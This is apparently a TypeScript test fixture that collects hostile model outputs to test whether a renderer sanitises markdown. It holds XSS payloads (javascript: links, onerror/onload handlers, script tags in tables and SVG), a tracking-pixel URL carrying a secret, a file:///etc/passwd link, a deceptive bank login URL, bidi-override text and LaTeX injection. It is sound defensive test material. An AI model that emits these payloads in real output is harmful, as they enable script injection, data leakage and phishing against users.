/** Hostile texts from a model, each of which tries to become more than text. */
import { attacks } from '#test/e2e/hostileServer'

export const hostileText = [
  attacks,
  '![track](https://example.invalid/pixel.png?secret=1) ![x](javascript:window.hacked=1)',
  '[js](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>) [file](file:///etc/passwd)',
  '[your bank](https://bank.example.invalid@evil.example.invalid/login)',
  'Letters turned around: \u202egnp.exe\u202c and hidden\u200bin between',
  '<details open ontoggle="window.hacked=1"><summary>x</summary></details>',
  '<svg/onload=window.hacked=1><math><mtext><img src onerror=window.hacked=1></mtext></math>',
  '$\\href{javascript:window.hacked=1}{click}$ and $$\\style{position:fixed;inset:0}{x}$$',
  '```html\n<script>window.hacked = 1</script>\n```',
  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | `</td><script>1</script>` |',
  '<style>*{display:none}</style>',
  'The end of it.',
].join('\n\n')
